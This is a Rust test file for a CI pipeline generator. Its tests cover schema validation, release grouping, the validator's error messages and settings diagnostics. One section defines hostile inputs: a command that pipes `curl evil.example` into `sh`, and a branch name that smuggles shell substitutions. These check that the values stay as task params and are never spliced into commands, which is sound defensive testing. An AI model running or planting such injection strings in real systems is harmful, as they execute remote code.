//! Pipelines generated for the acme example: schema, validator, the hard cases of the matrix,
//! hostile values, the settings diagnostics and snapshots of rendered pipelines.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use edx_matrix_config::{Loaded, Location, Source, load_toml};
use edx_matrix_pipeline::validate::{PipelineProblem, validate};
use edx_matrix_pipeline::{Change, Generated, all, changed, settings_of};
use serde_json::{Value, json};
use std::collections::{HashMap, HashSet};
use std::path::PathBuf;

fn fixtures() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures")
}

fn fixture(name: &str) -> String {
    std::fs::read_to_string(fixtures().join(name)).unwrap()
}

fn load(text: &str) -> Loaded {
    let loaded = load_toml(Source::new("edx-matrix.toml", text));
    assert!(
        !loaded.has_errors(),
        "{:#?}",
        loaded
            .diagnostics
            .iter()
            .filter(|d| d.is_error())
            .collect::<Vec<_>>()
    );
    loaded
}

fn generate(text: &str) -> Vec<Generated> {
    let loaded = load(text);
    let (settings, diagnostics) = settings_of(&loaded);
    assert!(diagnostics.is_empty(), "{diagnostics:#?}");
    all(&loaded.matrix, &settings)
}

/// The acme matrix without the `[pipelines]` section the built-in example adds.
fn bare_acme() -> String {
    let text =
        std::fs::read_to_string(fixtures().join("../../examples/acme/edx-matrix.toml")).unwrap();
    assert!(!text.contains("[pipelines]"));
    text
}

fn acme_with_settings() -> String {
    fixture("valid/pipelines.toml")
}

fn find<'a>(pipelines: &'a [Generated], name: &str) -> &'a Generated {
    pipelines.iter().find(|g| g.info.name == name).unwrap()
}

fn schema() -> jsonschema::Validator {
    let schema: Value = serde_json::from_str(&fixture(
        "concourse-schema/concourse_jsonschema.patched.json",
    ))
    .unwrap();
    jsonschema::draft4::new(&schema).unwrap()
}

#[test]
fn every_acme_pipeline_matches_the_concourse_schema_and_validates() {
    let validator = schema();
    for text in [bare_acme(), acme_with_settings()] {
        let pipelines = generate(&text);
        assert!(pipelines.len() > 5);
        for g in &pipelines {
            let value = g.pipeline.to_value();
            let errors: Vec<String> = validator
                .iter_errors(&value)
                .map(|e| format!("{} at {}", e, e.instance_path()))
                .collect();
            assert!(errors.is_empty(), "{}: {errors:#?}", g.info.name);
            assert_eq!(
                validate(&value),
                Vec::<PipelineProblem>::new(),
                "{}",
                g.info.name
            );
            // The YAML says exactly what the JSON says.
            let yaml = g.pipeline.to_yaml().unwrap();
            let back: Value = serde_saphyr::from_str(&yaml).unwrap();
            assert_eq!(back, value, "{}", g.info.name);
        }
    }
}

#[test]
fn the_schema_rejects_a_broken_pipeline() {
    // The schema check above can fail: a task param that is not a string is refused.
    let bad =
        json!({"jobs": [{"name": "a", "plan": [{"task": "t", "file": "x", "params": {"N": 1}}]}]});
    assert!(!schema().is_valid(&bad));
}

/// Returns, for each job, the group (release) it is in.
fn group_of(g: &Generated) -> HashMap<String, String> {
    let mut out = HashMap::new();
    for group in &g.pipeline.groups {
        for job in &group.jobs {
            assert!(
                out.insert(job.clone(), group.name.clone()).is_none(),
                "{job} in two groups"
            );
        }
    }
    out
}

/// Every (job, got resource, passed job) of a pipeline.
fn passed_edges(g: &Generated) -> Vec<(String, String, String)> {
    let value = g.pipeline.to_value();
    let mut out = Vec::new();
    for job in value["jobs"].as_array().unwrap() {
        let name = job["name"].as_str().unwrap().to_owned();
        let mut stack: Vec<&Value> = job["plan"].as_array().unwrap().iter().collect();
        while let Some(step) = stack.pop() {
            if let Some(inner) = step.get("in_parallel").and_then(Value::as_array) {
                stack.extend(inner);
            }
            if let Some(passed) = step.get("passed").and_then(Value::as_array) {
                let resource = step.get("resource").or(step.get("get")).unwrap();
                for p in passed {
                    out.push((
                        name.clone(),
                        resource.as_str().unwrap().to_owned(),
                        p.as_str().unwrap().to_owned(),
                    ));
                }
            }
        }
    }
    out
}

#[test]
fn pro_runs_three_releases_in_three_groups_without_crossing_releases() {
    let pipelines = generate(&acme_with_settings());
    let platform = find(&pipelines, "edx-platform");
    let jobs: Vec<&str> = platform
        .pipeline
        .jobs
        .iter()
        .map(|j| j.name.as_str())
        .filter(|j| j.contains("edx-platform") && (j.contains("-pro-") || j.ends_with("-pro")))
        .collect();
    assert_eq!(
        jobs,
        [
            "build-edx-platform-teak-pro",
            "deploy-edx-platform-teak-pro-production",
            "build-edx-platform-ulmo-pro",
            "deploy-edx-platform-ulmo-pro-qa",
            "build-edx-platform-verawood-pro",
            "deploy-edx-platform-verawood-pro-ci",
        ]
    );
    let groups = group_of(platform);
    assert_eq!(groups["deploy-edx-platform-teak-pro-production"], "teak");
    assert_eq!(groups["deploy-edx-platform-ulmo-pro-qa"], "ulmo");
    assert_eq!(groups["deploy-edx-platform-verawood-pro-ci"], "verawood");
    // Nothing is ever deployed from a build of another release, in any pipeline.
    for g in &pipelines {
        if g.info.kind == "meta" {
            continue;
        }
        let groups = group_of(g);
        for (job, resource, passed) in passed_edges(g) {
            assert_eq!(
                groups[&job], groups[&passed],
                "{job} passes {passed} for {resource}"
            );
        }
    }
    // Each pro deploy takes the artifact of its own release's build.
    let edges = passed_edges(platform);
    assert!(edges.contains(&(
        "deploy-edx-platform-teak-pro-production".to_owned(),
        "artifact-edx-platform-teak-pro".to_owned(),
        "build-edx-platform-teak-pro".to_owned()
    )));
}

#[test]
fn online_runs_one_release_in_one_chain_of_three_deploys() {
    let pipelines = generate(&acme_with_settings());
    let forum = find(&pipelines, "forum");
    let edges: Vec<(String, String)> = passed_edges(forum)
        .into_iter()
        .filter(|(_, r, _)| r.starts_with("artifact-"))
        .map(|(j, _, p)| (j, p))
        .collect();
    assert_eq!(
        edges,
        [
            (
                "deploy-forum-master-online-ci".to_owned(),
                "build-forum-master-online".to_owned()
            ),
            (
                "deploy-forum-master-online-qa".to_owned(),
                "deploy-forum-master-online-ci".to_owned()
            ),
            (
                "deploy-forum-master-online-production".to_owned(),
                "deploy-forum-master-online-qa".to_owned()
            ),
        ]
    );
    assert_eq!(forum.pipeline.groups.len(), 1);
    assert_eq!(forum.pipeline.groups[0].name, "master");
    // Gates: CI automatic, QA manual, Production waits for the approval resource.
    let value = forum.pipeline.to_value();
    let gets = |job: &str| -> Vec<Value> {
        let j = value["jobs"]
            .as_array()
            .unwrap()
            .iter()
            .find(|j| j["name"] == job)
            .unwrap();
        j["plan"][0]["in_parallel"].as_array().unwrap().clone()
    };
    assert_eq!(
        gets("deploy-forum-master-online-ci")[0]["trigger"],
        json!(true)
    );
    assert_eq!(
        gets("deploy-forum-master-online-qa")[0].get("trigger"),
        None
    );
    let production = gets("deploy-forum-master-online-production");
    assert_eq!(production[0].get("trigger"), None);
    assert_eq!(
        production[3],
        json!({"get": "production-approval", "trigger": true})
    );
}

fn job_map(pipelines: &[Generated]) -> HashMap<String, Value> {
    let mut out = HashMap::new();
    for g in pipelines.iter().filter(|g| g.info.kind != "meta") {
        for job in &g.pipeline.jobs {
            out.insert(
                format!("{}/{}", g.info.name, job.name),
                serde_json::to_value(job).unwrap(),
            );
        }
    }
    out
}

#[test]
fn removing_a_stage_removes_exactly_its_jobs() {
    let before_text = acme_with_settings();
    let line = r#"pro            = { CI = "verawood", QA = "ulmo",     Production = "teak" }"#;
    assert!(before_text.contains(line));
    let after_text = before_text.replace(line, r#"pro = { CI = "verawood", QA = "ulmo" }"#);
    let before = generate(&before_text);
    let after = generate(&after_text);
    let (b, a) = (job_map(&before), job_map(&after));
    let removed: HashSet<&String> = b.keys().filter(|k| !a.contains_key(*k)).collect();
    assert!(a.keys().all(|k| b.contains_key(k)), "no job is added");
    let expected: HashSet<String> = ["edx-platform", "edxapp_theme"]
        .iter()
        .map(|app| ("edx-platform", *app))
        .chain(
            [
                "learning",
                "authoring",
                "learner-dashboard",
                "communications",
            ]
            .iter()
            .map(|app| ("mfe", *app)),
        )
        .chain([("notes-api", "notes-api")])
        .flat_map(|(p, app)| {
            [
                format!("{p}/build-{app}-teak-pro"),
                format!("{p}/deploy-{app}-teak-pro-production"),
            ]
        })
        .collect();
    assert_eq!(removed, expected.iter().collect());
    for (k, job) in &a {
        assert_eq!(job, &b[k], "{k} is unchanged");
    }
    // The pipelines that change, for `edx-matrix diff`.
    let changes = changed(&before, &after);
    assert_eq!(
        changes,
        [
            ("edx-platform".to_owned(), Change::Changed),
            ("mfe".to_owned(), Change::Changed),
            ("notes-api".to_owned(), Change::Changed),
        ]
    );
}

#[test]
fn changed_reports_added_and_removed_pipelines() {
    let before = generate(&bare_acme());
    let text = bare_acme().replace("forum             = {}\nnotes-api", "notes-api");
    let after = generate(&text);
    assert_eq!(
        changed(&before, &after),
        [
            ("edx-matrix".to_owned(), Change::Changed),
            ("forum".to_owned(), Change::Removed)
        ]
    );
    assert_eq!(
        changed(&after, &before)[..1],
        [("forum".to_owned(), Change::Added)]
    );
    assert!(changed(&before, &before).is_empty());
}

// ── Hostile values ──────────────────────────────────────────────────────────────────────────

const HOSTILE_COMMAND: &str =
    r#"npm run pull && echo $(curl -s evil.example | sh) "double" 'single' `id`"#;
const HOSTILE_BRANCH: &str = r#"fix/$(touch_pwned)`id`'"x;y&z"#;

/// Collects (path, string) for every string in `value`.
fn strings(value: &Value, path: String, out: &mut Vec<(String, String)>) {
    match value {
        Value::String(s) => out.push((path, s.clone())),
        Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                strings(v, format!("{path}[{i}]"), out);
            }
        }
        Value::Object(map) => {
            for (k, v) in map {
                strings(v, format!("{path}.{k}"), out);
            }
        }
        _ => {}
    }
}

#[test]
fn hostile_matrix_values_reach_tasks_only_as_params() {
    assert_eq!(
        edx_matrix_model::refname::branch_name_problem(HOSTILE_BRANCH),
        None
    );
    let text = acme_with_settings().replace(
        r#"learning          = { translations = ["npm run pull_translations"] }"#,
        &format!(
            "learning = {{ branch = {}, translations = [{}] }}",
            toml_edit::Value::from(HOSTILE_BRANCH),
            toml_edit::Value::from(HOSTILE_COMMAND)
        ),
    );
    let pipelines = generate(&text);
    let mfe = find(&pipelines, "mfe");
    let mut all_strings = Vec::new();
    strings(&mfe.pipeline.to_value(), "$".to_owned(), &mut all_strings);
    let mut seen = (0, 0);
    for (path, value) in &all_strings {
        if path.contains(".run.") {
            assert!(
                !value.contains("$(curl") && !value.contains("touch_pwned"),
                "{path}: {value}"
            );
        }
        if value.contains("$(curl") {
            assert_eq!(
                value, HOSTILE_COMMAND,
                "only the command itself, never spliced"
            );
            assert!(path.ends_with(".params.TRANSLATION_OVERRIDES"), "{path}");
            seen.0 += 1;
        }
        if value.contains("touch_pwned") {
            assert_eq!(value, HOSTILE_BRANCH);
            assert!(
                path.ends_with(".params.RELEASE_BRANCH") || path.ends_with(".source.branch"),
                "{path}"
            );
            seen.1 += 1;
        }
    }
    // online's learning: one build and three deploys; a branch also in its git resource.
    assert_eq!(seen, (4, 5));
    assert_eq!(
        validate(&mfe.pipeline.to_value()),
        Vec::<PipelineProblem>::new()
    );
    // The YAML keeps the values intact.
    let yaml = mfe.pipeline.to_yaml().unwrap();
    let back: Value = serde_saphyr::from_str(&yaml).unwrap();
    assert_eq!(back, mfe.pipeline.to_value());
}

// ── The validator ───────────────────────────────────────────────────────────────────────────

fn small() -> Value {
    json!({
        "resources": [
            {"name": "src", "type": "git", "source": {"uri": "https://example.invalid/x"}},
            {"name": "img", "type": "registry-image", "source": {"repository": "x"}},
            {"name": "other", "type": "git", "source": {}}
        ],
        "jobs": [
            {"name": "build", "plan": [
                {"get": "src", "trigger": true},
                {"task": "t", "file": "src/t.yml"},
                {"put": "img"}
            ]},
            {"name": "deploy", "plan": [
                {"in_parallel": [
                    {"get": "artifact", "resource": "img", "passed": ["build"]},
                    {"get": "src", "passed": ["build"]}
                ]},
                {"task": "d", "file": "src/d.yml"}
            ]}
        ],
        "groups": [{"name": "all", "jobs": ["build", "deploy"]}]
    })
}

fn problems_after(change: impl FnOnce(&mut Value)) -> Vec<(String, String)> {
    let mut config = small();
    change(&mut config);
    validate(&config)
        .into_iter()
        .map(|p| (p.path, p.message))
        .collect()
}

fn one(path: &str, message: &str) -> Vec<(String, String)> {
    vec![(path.to_owned(), message.to_owned())]
}

#[test]
fn validator_accepts_the_small_pipeline() {
    assert_eq!(problems_after(|_| {}), vec![]);
}

#[test]
fn validator_rejects_a_get_of_an_undeclared_resource() {
    let got = problems_after(|c| c["jobs"][0]["plan"][0]["get"] = json!("sauce"));
    assert_eq!(
        got[0],
        one(
            "$.jobs[0].plan[0].get",
            "job `build` gets unknown resource `sauce`"
        )[0]
    );
    let got =
        problems_after(|c| c["jobs"][1]["plan"][0]["in_parallel"][0]["resource"] = json!("image"));
    assert_eq!(
        got[0],
        one(
            "$.jobs[1].plan[0].in_parallel[0].resource",
            "job `deploy` gets unknown resource `image`"
        )[0]
    );
    let got = problems_after(|c| c["jobs"][0]["plan"][2]["put"] = json!("nope"));
    assert_eq!(
        got,
        [
            one("$.jobs[0].plan[2].put", "job `build` puts to unknown resource `nope`")[0].clone(),
            // ... so `build` no longer uses `img`, which `deploy` wants to have passed it.
            one(
                "$.jobs[1].plan[0].in_parallel[0].passed[0]",
                "job `deploy`: `artifact` is constrained to pass job `build`, which does not use resource `img`"
            )[0]
            .clone(),
        ]
    );
}

#[test]
fn validator_rejects_passed_jobs_that_do_not_exist_or_do_not_use_the_resource() {
    let got =
        problems_after(|c| c["jobs"][1]["plan"][0]["in_parallel"][1]["passed"] = json!(["biuld"]));
    assert_eq!(
        got,
        one(
            "$.jobs[1].plan[0].in_parallel[1].passed[0]",
            "job `deploy`: `src` is constrained to pass unknown job `biuld`"
        )
    );
    let got = problems_after(|c| {
        c["jobs"][1]["plan"][0]["in_parallel"][1] = json!({"get": "other", "passed": ["build"]})
    });
    assert_eq!(
        got,
        one(
            "$.jobs[1].plan[0].in_parallel[1].passed[0]",
            "job `deploy`: `other` is constrained to pass job `build`, which does not use resource `other`"
        )
    );
}

#[test]
fn validator_rejects_groups_naming_missing_jobs_and_ungrouped_jobs() {
    let got = problems_after(|c| c["groups"][0]["jobs"] = json!(["build", "deploy", "deplyo"]));
    assert_eq!(
        got,
        one(
            "$.groups[0].jobs[2]",
            "group `all` has unknown job `deplyo`"
        )
    );
    let got = problems_after(|c| c["groups"][0]["jobs"] = json!(["build"]));
    assert_eq!(got, one("$.jobs[1]", "job `deploy` belongs to no group"));
    // Concourse's glob patterns in groups.
    assert_eq!(
        problems_after(|c| c["groups"][0]["jobs"] = json!(["*"])),
        vec![]
    );
}

#[test]
fn validator_rejects_invalid_and_duplicate_names() {
    let got = problems_after(|c| c["jobs"][0]["name"] = json!("Build"));
    assert_eq!(
        got[0],
        one(
            "$.jobs[0].name",
            "job `Build` is not a valid identifier: it must start with a lower-case letter"
        )[0]
    );
    let got = problems_after(|c| c["resources"][2]["name"] = json!("src"));
    assert_eq!(
        got,
        one(
            "$.resources[2].name",
            "resources[2] and resources[0] have the same name `src`"
        )
    );
    let got = problems_after(|c| c["resources"][2]["name"] = json!("my resource"));
    assert_eq!(
        got,
        one(
            "$.resources[2].name",
            "resource `my resource` is not a valid identifier: it may contain only lower-case letters, digits, `-`, `_` and `.`"
        )
    );
    // `((vars))` are interpolated before Concourse checks names.
    assert_eq!(
        problems_after(|c| c["resources"][2]["name"] = json!("((name))")),
        vec![]
    );
}

// ── Settings diagnostics ────────────────────────────────────────────────────────────────────

#[test]
fn settings_problems_are_all_reported_with_their_place() {
    let text = format!(
        "{}{}",
        bare_acme(),
        r#"
[pipelines]
team = "Acme"
chek_every = "5m"
[pipelines.families]
mfe = ["learning", "lerning"]
web = ["learning"]
[pipelines.build.ida]
task = { image = "x", run = ["echo", "{release}"] }
[pipelines.build.forum]
task = { resource = "tasks", file = "../t.yml" }
[pipelines.stages.Prod]
gate = "manul"
[pipelines.deploy]
task = { resource = "ci" }
[pipelines.meta]
tag = "latest"
"#
    );
    let loaded = load_toml(Source::new("m.toml", text.as_str()));
    let (_, diagnostics) = settings_of(&loaded);
    let got: Vec<(String, usize, String, Vec<String>)> = diagnostics
        .iter()
        .map(|d| {
            let Location::Span(span) = &d.location else {
                panic!("{d:?}")
            };
            (
                d.code.as_str().to_owned(),
                loaded.source.line_col(span.start).0 - bare_acme().lines().count(),
                d.message.clone(),
                d.help.clone(),
            )
        })
        .collect();
    let expected: Vec<(&str, usize, &str, Vec<&str>)> = vec![
        (
            "unknown-key",
            4,
            "unknown key `chek_every` in `pipelines`",
            vec!["did you mean `check_every`?"],
        ),
        (
            "pipeline-invalid",
            3,
            "the team name `Acme` is not a valid Concourse identifier: it must start with a lower-case letter",
            vec![],
        ),
        (
            "pipeline-undefined",
            6,
            "family `mfe` names application `lerning`, which is not defined",
            vec!["did you mean `learning`?"],
        ),
        (
            "pipeline-duplicate",
            7,
            "application `learning` is in family `mfe` and in family `web`",
            vec![],
        ),
        (
            "pipeline-invalid",
            9,
            "placeholders are not expanded in `run` of `task` of `pipelines.build.ida`: `{release}`",
            vec!["read the value from the task's environment instead (`$RELEASE`)"],
        ),
        (
            "pipeline-undefined",
            11,
            "`task` of `pipelines.build.forum` names resource `tasks`, which is not in `pipelines.resources`",
            vec![],
        ),
        (
            "pipeline-invalid",
            11,
            "`file` of `task` of `pipelines.build.forum` must be a relative path inside the resource: it has an empty or `..` component",
            vec![],
        ),
        (
            "pipeline-invalid",
            15,
            "`pipelines.deploy.task` must have either `resource` and `file` (a task file) or `image` and `run` (an inline task), found `resource`",
            vec![
                "e.g. `{ resource = \"ci\", file = \"tasks/build.yml\" }` or `{ image = \"node\", tag = \"{runtime}\", run = [\"npm\", \"run\", \"build\"] }`",
            ],
        ),
        (
            "pipeline-undefined",
            12,
            "`pipelines.stages` names stage `Prod`, which is not defined",
            vec![],
        ),
        (
            "pipeline-invalid",
            13,
            "unknown gate `manul` in `gate` of `pipelines.stages.Prod`",
            vec!["did you mean `manual`?"],
        ),
        (
            "pipeline-invalid",
            17,
            "`tag` of `pipelines.meta` must pin a version of the edx-matrix image",
            vec![],
        ),
    ];
    let expected: Vec<(String, usize, String, Vec<String>)> = expected
        .into_iter()
        .map(|(c, l, m, h)| {
            (
                c.to_owned(),
                l,
                m.to_owned(),
                h.into_iter().map(str::to_owned).collect(),
            )
        })
        .collect();
    assert_eq!(got, expected);
}

#[test]
fn the_acme_settings_have_no_problems() {
    let loaded = load(&acme_with_settings());
    let (settings, diagnostics) = settings_of(&loaded);
    assert!(diagnostics.is_empty(), "{diagnostics:#?}");
    assert!(settings.declared);
    assert_eq!(settings.team, "acme");
}

// ── Snapshots (read by eye) ─────────────────────────────────────────────────────────────────

#[test]
fn snapshot_forum_pipeline() {
    let pipelines = generate(&acme_with_settings());
    insta::assert_snapshot!(
        "forum.yml",
        find(&pipelines, "forum").pipeline.to_yaml().unwrap()
    );
}

#[test]
fn snapshot_meta_pipeline() {
    let pipelines = generate(&acme_with_settings());
    insta::assert_snapshot!(
        "meta.yml",
        find(&pipelines, "edx-matrix").pipeline.to_yaml().unwrap()
    );
}

#[test]
fn snapshot_default_settings_mfe_pipeline() {
    // Without a `[pipelines]` section: the defaults of docs/pipelines.md.
    let pipelines = generate(&bare_acme());
    insta::assert_snapshot!(
        "example-communications.json",
        find(&pipelines, "communications").pipeline.to_json()
    );
}

// ── One invalid fixture per pipeline diagnostic code ────────────────────────────────────────

/// Each fixture is its own test (`tests/fixtures.rs`), which checks that it yields the codes it
/// declares; here, that every `pipeline-*` code is declared by one.
#[test]
fn every_pipeline_code_has_an_invalid_pipelines_fixture() {
    use edx_matrix_model::Code;
    let mut covered = HashSet::new();
    for path in edx_matrix_test_support::fixtures::files("invalid-pipelines", "toml") {
        let text = std::fs::read_to_string(&path).unwrap();
        let expectations = edx_matrix_test_support::fixtures::header_expectations(&text);
        assert!(!expectations.is_empty(), "{path:?} has no `# expect:` line");
        covered.extend(
            expectations.iter().map(|(c, _)| {
                Code::from_name(c).unwrap_or_else(|| panic!("{path:?}: no code `{c}`"))
            }),
        );
    }
    for code in Code::ALL
        .iter()
        .filter(|c| c.as_str().starts_with("pipeline-"))
        // Found in rendered template pipelines, not in the settings (tests/pipeline/templates.rs).
        .filter(|c| **c != Code::PipelineCommandLine)
    {
        assert!(covered.contains(code), "no fixture for `{code}`");
    }
}
